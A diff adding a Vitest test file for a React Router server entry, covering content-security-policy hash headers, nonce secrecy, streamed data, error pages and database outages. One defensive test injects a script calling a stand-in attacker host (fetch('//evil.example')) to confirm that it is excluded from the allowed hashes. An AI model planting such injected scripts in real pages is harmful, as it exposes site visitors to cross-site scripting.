@@ -1,0 +1,190 @@
+import { type ReactNode, Suspense, use } from "react";
+import {
+  Await,
+  createRequestHandler,
+  Links,
+  Meta,
+  RouterContextProvider,
+  Scripts,
+  ScrollRestoration,
+  type ServerBuild,
+  useLoaderData,
+} from "react-router";
+import { expect, test, vi } from "vitest";
+import type { Context } from "#platform/context.ts";
+import { scriptHashesHeader, sourceHash, styleHashesHeader } from "#platform/http/inline-hashes.server.ts";
+import { requestContext } from "#platform/http/request-context.ts";
+import type { Logger } from "#platform/log.server.ts";
+import * as entry from "./entry.server.tsx";
+import { ScriptMark } from "./script-mark.ts";
+
+function Document({ children }: { children?: ReactNode }) {
+  return (
+    <html lang="en-GB">
+      <head>
+        <Meta />
+        <Links />
+        <Theme />
+      </head>
+      <body>
+        {children}
+        <ScrollRestoration />
+        <Scripts />
+      </body>
+    </html>
+  );
+}
+
+function Theme() {
+  return <style nonce={use(ScriptMark)}>{":root{--ink:#111}"}</style>;
+}
+
+/** A site of one page, in the form the build gives it to the server. */
+function createSite(Page: () => ReactNode, loader: () => unknown, errors: unknown[] = []) {
+  const Root = () => (
+    <Document>
+      <Page />
+    </Document>
+  );
+  const ErrorBoundary = () => <Document>Sorry</Document>;
+  const route = { id: "root", path: "", hasLoader: true, hasErrorBoundary: true };
+  const build = {
+    entry: { module: entry },
+    routes: { root: { ...route, module: { default: Root, loader, ErrorBoundary } } },
+    assets: {
+      entry: { imports: [], module: "/asset_bundles/entry.js" },
+      routes: { root: { ...route, module: "/asset_bundles/root.js", imports: [] } },
+      url: "/asset_bundles/manifest.js",
+      version: "1",
+    },
+    publicPath: "/",
+    assetsBuildDirectory: "build/client",
+    basename: "/",
+    future: {},
+    ssr: true,
+    isSpaMode: false,
+    prerender: [],
+    routeDiscovery: { mode: "initial" },
+  } as unknown as ServerBuild;
+  const handle = createRequestHandler(build, "production");
+  const log = { error: (facts: unknown) => errors.push(facts) } as unknown as Logger;
+  return (path: string) => {
+    const provider = new RouterContextProvider();
+    provider.set(requestContext, { log } as Context);
+    return handle(new Request(`http://first.test${path}`), provider);
+  };
+}
+
+const inlineScripts = (html: string) => [...html.matchAll(/<script(?![^>]*\bsrc=)[^>]*>([\s\S]*?)<\/script>/g)];
+
+test("every inline script and style of ours is allowed, an injected one is not", async () => {
+  const injected = "fetch('//evil.example')";
+  const get = createSite(
+    // biome-ignore lint/security/noDangerouslySetInnerHtml: this is the attack
+    () => <div dangerouslySetInnerHTML={{ __html: `<script>${injected}</script>` }} />,
+    () => ({ name: "Harbour & Vale" }),
+  );
+  const response = await get("/");
+  const html = await response.text();
+  const allowed = response.headers.get(scriptHashesHeader)?.split(" ") ?? [];
+  const scripts = inlineScripts(html).map(([, content = ""]) => content);
+  expect(scripts.length).toBeGreaterThan(3);
+  expect(scripts.filter((content) => !allowed.includes(sourceHash(content)))).toEqual([injected]);
+  expect(response.headers.get(styleHashesHeader)).toBe(sourceHash(":root{--ink:#111}"));
+});
+
+test("the mark reaches nobody, and two visitors get the same page", async () => {
+  const marks: (string | undefined)[] = [];
+  const get = createSite(
+    () => {
+      marks.push(use(ScriptMark));
+      return null;
+    },
+    () => ({}),
+  );
+  const [first, second] = [await get("/"), await get("/")];
+  const [html, again] = [await first.text(), await second.text()];
+  expect(marks[0]).toMatch(/^[0-9a-f]{36}$/);
+  expect(html + JSON.stringify([...first.headers])).not.toContain(marks[0]);
+  expect(html).not.toContain("nonce");
+  expect(again).toBe(html);
+  expect(second.headers.get(scriptHashesHeader)).toBe(first.headers.get(scriptHashesHeader));
+});
+
+test("late data is in the page when it is sent", async () => {
+  const get = createSite(LatePage, () => ({ late: Promise.resolve("Late but here") }));
+  const response = await get("/");
+  expect(response.headers.get("content-type")).toBe("text/html; charset=utf-8");
+  expect(await response.text()).toContain("<p>Late but here</p>");
+});
+
+test("when late data fails the rest is sent, for this visitor only", async () => {
+  const get = createSite(LatePage, () => ({ late: Promise.reject(new Error("late")) }));
+  const response = await get("/");
+  expect(response.status).toBe(200);
+  expect(response.headers.get("cache-control")).toBe("no-store");
+  expect(await response.text()).toContain("<h1>Home</h1>");
+});
+
+test("late data that never comes holds the page for five seconds at most", async () => {
+  vi.useFakeTimers({ toFake: ["setTimeout", "clearTimeout"] });
+  const response = createSite(LatePage, () => ({ late: new Promise(() => {}) }))("/");
+  await vi.advanceTimersByTimeAsync(5_000);
+  vi.useRealTimers();
+  expect((await response).headers.get("cache-control")).toBe("no-store");
+  expect(await (await response).text()).toContain("<p>Loading</p>");
+});
+
+test("a page that fails says so without the reason", async () => {
+  const errors: unknown[] = [];
+  const get = createSite(
+    () => null,
+    () => {
+      throw new Error("secret reason");
+    },
+    errors,
+  );
+  const response = await get("/");
+  expect(response.status).toBe(500);
+  const html = await response.text();
+  expect(html).toContain("Sorry");
+  expect(html).not.toContain("secret reason");
+  expect(errors).toMatchObject([{ message: "secret reason", path: "/" }]);
+});
+
+test("a missing page is nobody's fault", async () => {
+  const errors: unknown[] = [];
+  const get = createSite(
+    () => null,
+    () => ({}),
+    errors,
+  );
+  const response = await get("/missing");
+  expect(response.status).toBe(404);
+  expect(await response.text()).toContain("Sorry");
+  expect(errors).toEqual([]);
+});
+
+test("without the database the visitor is asked to come back", async () => {
+  const get = createSite(
+    () => null,
+    () => {
+      throw Object.assign(new Error("connect"), { code: "ECONNREFUSED" });
+    },
+  );
+  const response = await get("/");
+  expect(response.status).toBe(503);
+  expect(response.headers.get("retry-after")).toBe("5");
+});
+
+function LatePage() {
+  const { late } = useLoaderData<{ late: Promise<string> }>();
+  return (
+    <>
+      <h1>Home</h1>
+      <Suspense fallback={<p>Loading</p>}>
+        <Await resolve={late}>{(words) => <p>{words}</p>}</Await>
+      </Suspense>
+    </>
+  );
+}
